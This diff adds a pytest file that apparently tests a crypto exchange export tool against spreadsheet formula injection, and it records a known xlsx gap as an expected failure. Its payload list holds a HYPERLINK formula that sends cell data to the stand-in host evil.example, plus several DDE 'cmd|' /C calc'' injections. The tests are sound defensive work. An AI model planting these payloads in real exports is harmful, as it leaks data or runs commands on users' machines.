@@ -1,0 +1,133 @@
+"""Spreadsheet safety of outputs: text that would start with = + - @ (or tab/CR) in any CSV or
+xlsx cell is neutralized, so opening an export never runs a formula from an imported file."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+
+from tests.helpers import DW_HEADER, OTHERS_HEADER, STAKING_HEADER, TRADING_HEADER, cli, write_csv
+from tests.reliability.outputs import BINARY_FORMATS, cells, formats, run_export
+
+PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+DANGEROUS = re.compile(r"^[=+\-@\t\r]")
+NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
+
+
+def _hostile_export(folder: Path, payload: str) -> list[Path]:
+    """Every text column that can reach an output carries the payload."""
+    coin = payload  # coins are upper-cased on import; the payload's first character survives
+    return [
+        write_csv(
+            folder / "trading.csv",
+            TRADING_HEADER,
+            [
+                (
+                    "2025-04-01 00:00:00",
+                    "1",
+                    "10",
+                    "10",
+                    "BUY",
+                    f"{payload}_USDT",
+                    "0.1",
+                    coin,
+                    "Spot",
+                    payload,
+                ),
+                (
+                    "2025-04-01 00:00:01",
+                    "1",
+                    "10",
+                    "10",
+                    "SELL",
+                    "ETH_USDT",
+                    "0.1",
+                    "USDT",
+                    payload,
+                    payload,
+                ),
+            ],
+        ),
+        write_csv(
+            folder / "deposit-withdraw.csv",
+            DW_HEADER,
+            [
+                ("2025-04-02 00:00:00", "DEPOSIT", "5", coin, payload, payload, "0"),
+                ("2025-04-02 00:00:01", payload, "5", "USDT", "TRC20", "0xab", "0"),
+            ],
+        ),
+        write_csv(
+            folder / "others.csv",
+            OTHERS_HEADER,
+            [
+                ("2025-04-03 00:00:00", coin, "1", payload, payload),
+                ("2025-04-03 00:00:01", "USDT", "-1", "FundingFee", payload),
+            ],
+        ),
+        write_csv(
+            folder / "staking.csv",
+            STAKING_HEADER,
+            [("2025-04-04 00:00:00", "0.1", coin, "", "", payload)],
+        ),
+    ]
+
+
+def _imported(db: Path, folder: Path, payload: str) -> None:
+    result = cli("--db", db, "import", *_hostile_export(folder, payload))
+    assert result.exit_code == 0, result.output
+
+
+def _dangerous_cells(db: Path, fmt: str, out: Path) -> tuple[list[str], int]:
+    """(cells a spreadsheet would run, cells the payload reached) of one format's output."""
+    target, _ = run_export(db, fmt, out, "--all-accounts")
+    bad, reached = [], 0
+    for cell in cells(target):
+        value = getattr(cell, "value", cell)
+        if getattr(cell, "data_type", None) == "f":
+            bad.append(f"formula cell {value!r}")
+        if not isinstance(value, str):
+            continue
+        reached += "CMD|" in value.upper() or "HYPERLINK" in value.upper() or "1+1" in value
+        if DANGEROUS.match(value) and not NUMBER.match(value):
+            bad.append(value)
+    return bad, reached
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=[p[:12].strip() or repr(p[:3]) for p in PAYLOADS])
+def test_no_csv_cell_starts_like_a_formula_and_xlsx_holds_no_formula(
+    payload: str, db: Path, tmp_path: Path
+) -> None:
+    _imported(db, tmp_path / "in", payload)
+    reached = 0
+    for fmt in formats():
+        if fmt in BINARY_FORMATS:
+            continue  # columnar data for engines, not a sheet anyone opens in a spreadsheet
+        bad, hits = _dangerous_cells(db, fmt, tmp_path / "out" / fmt)
+        reached += hits
+        if fmt == "xlsx":
+            # Text is stored typed as text (strings_to_formulas off): never evaluated on open.
+            bad = [b for b in bad if b.startswith("formula cell")]
+        assert not bad, f"{fmt} wrote cells a spreadsheet would run: {bad[:3]}"
+    assert reached, "the payload reached no output: the test would prove nothing"
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="xlsx keeps formula-looking text verbatim as a text cell: safe on open, but Excel "
+    "runs it once the user edits the cell (F2, Enter) or re-saves the sheet as CSV; "
+    "the CSV writers prefix a quote (safe_text), the workbook does not",
+)
+def test_xlsx_text_cells_are_neutralized_too(db: Path, tmp_path: Path) -> None:
+    _imported(db, tmp_path / "in", PAYLOADS[0])
+    bad, reached = _dangerous_cells(db, "xlsx", tmp_path / "out")
+    assert reached
+    assert not bad, bad[:3]
